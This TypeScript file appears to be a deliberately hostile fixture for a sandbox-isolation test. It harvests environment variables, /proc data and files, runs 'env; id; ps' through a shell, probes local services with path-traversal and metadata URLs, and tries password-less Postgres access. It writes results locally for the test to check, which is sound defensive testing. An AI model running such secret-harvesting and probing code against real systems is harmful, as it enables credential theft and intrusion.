/**
 * A bot that looks for secrets wherever a process can look: its environment, every other process,
 * every file, every address it was told or can guess. Writes all of what it found to
 * $MOUNT_DATA/found.txt, for hostile-bot.test.ts to search, and ends.
 */
import { execFileSync } from "node:child_process";
import { createWriteStream, readdirSync, readFileSync, readlinkSync, statSync } from "node:fs";
import { request } from "node:http";
import { connect } from "node:net";
import { dirname, join } from "node:path";

const { env } = process;
const found = createWriteStream(join(env["MOUNT_DATA"] ?? ".", "found.txt"));
const counts = { environments: 0, processes: 0, files: 0, answers: 0 };

function tell(where: string, what: string | Buffer): void {
  found.write(`\n=== ${where}\n`);
  found.write(what);
}

/** The answer, or nothing: being refused is what this program is for. */
function attempt<T>(act: () => T): T | undefined {
  try {
    return act();
  } catch {
    return undefined;
  }
}

function lookAtProcesses(): void {
  for (const pid of readdirSync("/proc").filter((name) => /^\d+$/.test(name))) {
    const at = join("/proc", pid);
    counts.processes += 1;
    const environment = attempt(() => readFileSync(join(at, "environ")));
    if (environment && Number(pid) !== process.pid) counts.environments += 1;
    for (const name of ["environ", "cmdline", "auxv", "maps", "stack"]) {
      const text = attempt(() => readFileSync(join(at, name)));
      if (text) tell(join(at, name), text);
    }
    // Another process's folder is a way out of a room.
    for (const way of ["root", "cwd"]) {
      const names = attempt(() => readdirSync(join(at, way)));
      if (names && Number(pid) !== process.pid) tell(join(at, way), names.join(" "));
    }
    for (const fd of attempt(() => readdirSync(join(at, "fd"))) ?? [])
      tell(join(at, "fd", fd), attempt(() => readlinkSync(join(at, "fd", fd))) ?? "");
  }
}

const SKIPPED = new Set(["/proc", "/sys", "/usr", "/dev", "/lib", "/bin", "/sbin"]);
const MAX_FILES = 20_000;
const MAX_BYTES = 1_000_000;
/** All files together: without a room there would be no end. */
let bytesLeft = 30_000_000;

function lookAtFiles(folder: string): void {
  for (const entry of attempt(() => readdirSync(folder, { withFileTypes: true })) ?? []) {
    const path = join(folder, entry.name);
    if (SKIPPED.has(path) || entry.name === "node_modules" || entry.name === "found.txt") continue;
    if (counts.files >= MAX_FILES || bytesLeft <= 0) return;
    if (entry.isDirectory()) lookAtFiles(path);
    else if (entry.isFile() && (attempt(() => statSync(path).size) ?? MAX_BYTES) < MAX_BYTES) {
      const text = attempt(() => readFileSync(path));
      counts.files += 1;
      bytesLeft -= text?.length ?? 0;
      if (text) tell(path, text);
    }
  }
}

interface Ask {
  method?: string;
  path: string;
  headers?: Record<string, string>;
  body?: string;
}

const KEY = env["MOLT_MODEL_KEY"] ?? "";
const hello = JSON.stringify({
  model: "molt-demo-1",
  max_tokens: 10,
  messages: [{ role: "user", content: "hi" }],
});
/** What makes servers talk: their own pages, other people's addresses, and every kind of mistake. */
const pages = `/ /healthz /health /v1/models /v1/usage /v1/catalog
/openapi.json /__truth /metrics /debug/vars /env /.env
/proc/self/environ /../../../../proc/self/environ /v1/apps /v1/apps?org_slug=local /admin /usage
/v1/customers /admin/users http://127.0.0.1/latest/meta-data/ /%2e%2e/%2e%2e/.molt/secrets.json`;
const asks: Ask[] = pages.split(/\s+/).map((path) => ({ path }));
for (const [path, body] of [
  ["/v1/messages", hello],
  ["/v1/messages", "{"],
  ["/v1/messages", hello.replace("molt-demo-1", "claude-none-9")],
  ["/v1/messages", hello.replace("molt-demo-1", "claude-sonnet-5")],
  ["/v1/chat/completions", hello.replace("molt-demo-1", "gpt-5.6-terra")],
  ["/v1/messages/count_tokens", hello.replace("molt-demo-1", "claude-sonnet-5")],
  ["/v1/responses", "null"],
  ["/__control", JSON.stringify({ faults: [] })],
] as const)
  asks.push({ method: "POST", path, body, headers: { "content-type": "application/json" } });

function ask(port: number, { method = "GET", path, headers = {}, body }: Ask): Promise<void> {
  return new Promise((resolve) => {
    const sent = request({ host: "127.0.0.1", port, method, path, headers, agent: false }, (answer) => {
      const chunks: Buffer[] = [];
      answer.on("data", (chunk: Buffer) => chunks.push(chunk));
      answer.on("close", () => {
        counts.answers += 1;
        const head = `${answer.statusCode ?? 0} ${JSON.stringify(answer.headers)}\n`;
        tell(`${method} :${port}${path}`, Buffer.concat([Buffer.from(head), ...chunks]));
        resolve();
      });
    });
    sent.setTimeout(5_000, () => sent.destroy());
    sent.on("error", (error) => {
      tell(`${method} :${port}${path}`, String(error));
      resolve();
    });
    sent.end(body);
  });
}

/** Postgres, without a password and with every word that is known here. */
async function knockAtDatabase(port: number): Promise<void> {
  const startup = Buffer.from("user\0postgres\0database\0postgres\0\0");
  const head = Buffer.alloc(8);
  head.writeInt32BE(startup.length + 8, 0);
  head.writeInt32BE(196_608, 4);
  const answer = await new Promise<Buffer>((resolve) => {
    const chunks: Buffer[] = [];
    const socket = connect({ host: "127.0.0.1", port }, () => socket.write(Buffer.concat([head, startup])));
    socket.on("data", (chunk: Buffer) => {
      chunks.push(chunk);
      socket.end();
    });
    socket.setTimeout(5_000, () => socket.destroy());
    socket.on("error", () => undefined); // `close` tells
    socket.on("close", () => resolve(Buffer.concat(chunks)));
  });
  // AuthenticationOk is the message R with a zero behind its length.
  const isOpen = answer[0] === 0x52 && answer.length >= 9 && answer.readInt32BE(5) === 0;
  tell("postgres", isOpen ? "OPEN WITHOUT A PASSWORD" : answer);
}

tell("own environment", JSON.stringify(env));
lookAtProcesses();
tell(
  "shell",
  attempt(() => execFileSync("/bin/sh", ["-c", "env; id; ps axeww; mount"], { stdio: "pipe" })) ?? "",
);
lookAtFiles("/");
// Its disk lies in the platform's data folder: the way up from there is known to it.
for (let up = dirname(env["MOUNT_DATA"] ?? "/"); up !== "/"; up = dirname(up)) lookAtFiles(up);
for (const port of (env["PORTS"] ?? "").split(",").filter(Boolean).map(Number)) {
  for (const one of asks) {
    await ask(port, one);
    await ask(port, {
      ...one,
      headers: { ...one.headers, authorization: `Bearer ${KEY}`, "x-api-key": KEY },
    });
  }
}
await knockAtDatabase(Number(env["DATABASE_PORT"]));
tell("counts", JSON.stringify(counts));
await new Promise<void>((resolve) => found.end(resolve));
process.exit(0);
